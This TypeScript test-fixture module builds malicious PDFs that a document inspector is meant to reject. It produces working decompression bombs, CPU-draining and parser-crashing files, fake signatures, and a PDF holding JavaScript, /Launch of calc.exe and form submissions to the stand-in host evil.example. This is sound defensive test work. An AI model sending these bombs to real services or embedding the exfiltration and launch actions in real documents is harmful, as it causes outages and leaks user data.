// Builders for PDFs the inspector must refuse. Each is made here, in memory, in milliseconds.
import { randomBytes } from 'node:crypto';
import { constants, deflateRawSync, deflateSync } from 'node:zlib';
import { PDFDict, PDFDocument, PDFHexString, PDFName, PDFNumber, PDFString, StandardFonts, type PDFRef } from '@cantoo/pdf-lib';

const ascii = (s: string): Buffer => Buffer.from(s, 'latin1');

/** A zlib stream that inflates to `gib` GiB of zeros, about 1 MiB per GiB. */
function zerosDeflated(gib: number): Buffer {
  // Sync-flushed deflate blocks are byte-aligned and only refer back to zeros, so one compressed
  // MiB of zeros can be repeated to build an arbitrarily large stream without compressing it.
  const block = deflateRawSync(Buffer.alloc(1 << 20), { level: 9, finishFlush: constants.Z_SYNC_FLUSH });
  return Buffer.concat([
    Buffer.from([0x78, 0x9c]),
    ...Array.from({ length: gib * 1024 }, () => block),
    Buffer.from([0x01, 0x00, 0x00, 0xff, 0xff, 0, 0, 0, 0]),
  ]);
}

/** A FlateDecode object stream of `gib` GiB of zeros in about 1 MiB per GiB. */
export function decompressionBomb(gib: number): Uint8Array {
  const stream = zerosDeflated(gib);
  return Buffer.concat([
    ascii('%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n'),
    ascii('2 0 obj\n<< /Type /Pages /Kids [4 0 R] /Count 1 >>\nendobj\n'),
    ascii('4 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>\nendobj\n'),
    ascii(`3 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length ${stream.length} >>\nstream\n`),
    stream,
    ascii('\nendstream\nendobj\ntrailer\n<< /Root 1 0 R /Size 5 >>\n%%EOF\n'),
  ]);
}

/**
 * A one-page form whose page content is a FlateDecode stream of `gib` GiB of zeros (a few MiB on disk)
 * and whose one text field has no tooltip: importing it would have pdf.js read that page's text for a
 * label, and inflate the stream with no cap.
 */
export function contentStreamBomb(gib: number): Uint8Array {
  const stream = zerosDeflated(gib);
  return Buffer.concat([
    ascii('%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [5 0 R] >> >>\nendobj\n'),
    ascii('2 0 obj\n<< /Type /Pages /Kids [4 0 R] /Count 1 >>\nendobj\n'),
    ascii('4 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 3 0 R /Annots [5 0 R] >>\nendobj\n'),
    ascii('5 0 obj\n<< /Type /Annot /Subtype /Widget /FT /Tx /T (applicant_name) /Rect [100 600 300 620] /P 4 0 R >>\nendobj\n'),
    ascii(`3 0 obj\n<< /Filter /FlateDecode /Length ${stream.length} >>\nstream\n`),
    stream,
    ascii('\nendstream\nendobj\ntrailer\n<< /Root 1 0 R /Size 6 >>\n%%EOF\n'),
  ]);
}

/**
 * A few hundred bytes that cost seconds of a worker to read (issue 35: 375 bytes held the PDF worker
 * for 5 s): an object stream deflated twice whose one object is an array of `decodedMb` MiB of
 * numbers. It inflates below the decode cap (16 MiB), so only the job's CPU limit stops it. About
 * 330 bytes per 4 MiB; 15 MiB took 5 s of one core to verify on the test machine.
 */
export function costlyToRead(decodedMb: number): Uint8Array {
  const numbers = Buffer.alloc(decodedMb * 1024 * 1024 - 8, '0 ');
  const objects = Buffer.concat([ascii('1 0 ['), numbers, ascii(']')]);
  const twice = deflateSync(deflateSync(objects, { level: 9 }), { level: 9 });
  return Buffer.concat([
    ascii('%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\n'),
    ascii(`3 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter [/FlateDecode /FlateDecode] /Length ${twice.length} >>\nstream\n`),
    twice,
    ascii('\nendstream\nendobj\ntrailer\n<< /Root 1 0 R /Size 4 >>\n%%EOF\n'),
  ]);
}

/** An array nested `depth` levels deep: a stack-overflow attempt on recursive parsers. */
export function deeplyNested(depth: number): Uint8Array {
  return ascii(`%PDF-1.7\n1 0 obj\n${'['.repeat(depth)}${']'.repeat(depth)}\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n`);
}

/** Millions of tiny objects: costs the parser heap and time rather than decoded bytes. */
export function heapHog(numbers: number): Uint8Array {
  return ascii(`%PDF-1.7\n1 0 obj\n[${'0 '.repeat(numbers)}]\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n`);
}

export const randomNoise = (size: number): Uint8Array => new Uint8Array(randomBytes(size));

export function headerThenGarbage(size: number): Uint8Array {
  return Buffer.concat([ascii('%PDF-1.7\n'), randomBytes(size), ascii('\n%%EOF\n')]);
}

function signatureDictionary(doc: PDFDocument): PDFRef {
  return doc.context.register(doc.context.obj({
    Type: 'Sig', Filter: 'Adobe.PPKLite', SubFilter: 'adbe.pkcs7.detached',
    ByteRange: [0, 100, 200, 300], Contents: PDFHexString.of('00'.repeat(64)),
    M: PDFString.of('D:20240101000000Z'),
  }));
}

/** A one-page PDF whose signature field holds a (fake) signature value. */
export async function signedPdf(mode: 'sig-value' | 'docmdp'): Promise<Uint8Array> {
  const doc = await PDFDocument.create();
  const page = doc.addPage([612, 792]);
  page.drawText('Signed contract', { x: 72, y: 700, font: await doc.embedFont(StandardFonts.Helvetica) });
  const sig = signatureDictionary(doc);
  const field = doc.context.register(doc.context.obj({
    Type: 'Annot', Subtype: 'Widget', FT: 'Sig', T: PDFString.of('Signature1'), F: 4,
    Rect: [72, 100, 272, 150], P: page.ref, ...(mode === 'sig-value' ? { V: sig } : {}),
  }));
  page.node.addAnnot(field);
  const form = doc.getForm();
  form.acroForm.addField(field);
  form.acroForm.dict.set(PDFName.of('SigFlags'), PDFNumber.of(3));
  if (mode === 'docmdp') doc.catalog.set(PDFName.of('Perms'), doc.context.obj({ DocMDP: sig }));
  return doc.save();
}

/**
 * A valid one-page form (one text field) that also holds `count` tiny objects, all reachable from the
 * page: what a 5.5 MB upload of 100,000 objects looks like. Without limits it imported in a second
 * and then stalled every fill for twenty.
 */
export async function manyObjects(count: number): Promise<Uint8Array> {
  const doc = await PDFDocument.create();
  const page = doc.addPage([612, 792]);
  const field = doc.getForm().createTextField('name');
  field.addToPage(page, { x: 72, y: 600, width: 200, height: 20 });
  const refs = Array.from({ length: count }, (_, i) => doc.context.register(doc.context.obj({ N: i })));
  page.node.set(PDFName.of('PieceInfo'), doc.context.obj({ Junk: doc.context.obj(refs) }));
  return doc.save({ useObjectStreams: false });
}

/**
 * A form carrying every kind of active content the import removes, beside visible text and a plain
 * web link that must survive: document and field JavaScript, /OpenAction, /AA, /Launch, /SubmitForm,
 * /ImportData, /GoToR, an embedded file and a file-attachment annotation.
 */
export async function activeContentPdf(): Promise<Uint8Array> {
  const doc = await PDFDocument.create();
  const page = doc.addPage([612, 792]);
  page.drawText('Visible agreement text', { x: 72, y: 720, size: 14, font: await doc.embedFont(StandardFonts.Helvetica) });
  const form = doc.getForm();
  const field = form.createTextField('full_name');
  field.addToPage(page, { x: 72, y: 600, width: 200, height: 20 });
  const { context } = doc;
  const js = (code: string) => context.obj({ S: 'JavaScript', JS: PDFString.of(code) });
  doc.catalog.set(PDFName.of('OpenAction'), context.register(js('app.alert("opened")')));
  doc.catalog.set(PDFName.of('AA'), context.obj({ WC: js('app.alert("closing")') }));
  field.acroField.dict.set(PDFName.of('AA'), context.obj({ K: js('event.value = event.value.toUpperCase()'), C: js('event.value = 1') }));
  const jsTree = context.obj({ Names: [PDFString.of('init'), context.register(js('this.submitForm("https://evil.example/")'))] });
  doc.catalog.set(PDFName.of('Names'), context.obj({ JavaScript: jsTree }));
  await doc.attach(new TextEncoder().encode('secret payload'), 'payload.txt', { mimeType: 'text/plain', description: 'attached' });
  const link = (action: PDFDict, y: number) => context.register(context.obj({
    Type: 'Annot', Subtype: 'Link', Rect: [72, y, 272, y + 20], Border: [0, 0, 0], A: action,
  }));
  const annots = [
    link(context.obj({ S: 'Launch', F: PDFString.of('calc.exe') }), 500),
    link(context.obj({ S: 'SubmitForm', F: PDFString.of('https://evil.example/collect') }), 470),
    link(context.obj({ S: 'ImportData', F: PDFString.of('data.fdf') }), 440),
    link(context.obj({ S: 'GoToR', F: PDFString.of('other.pdf'), D: [0, 'Fit'] }), 410),
    link(context.obj({ S: 'URI', URI: PDFString.of('https://example.com/terms') }), 380),
    context.register(context.obj({
      Type: 'Annot', Subtype: 'FileAttachment', Rect: [300, 380, 320, 400], Name: 'PushPin',
      FS: context.obj({ Type: 'Filespec', F: PDFString.of('note.txt'), EF: context.obj({ F: context.register(context.flateStream('hidden note', { Type: 'EmbeddedFile' })) }) }),
    })),
  ];
  for (const annot of annots) page.node.addAnnot(annot);
  return doc.save();
}
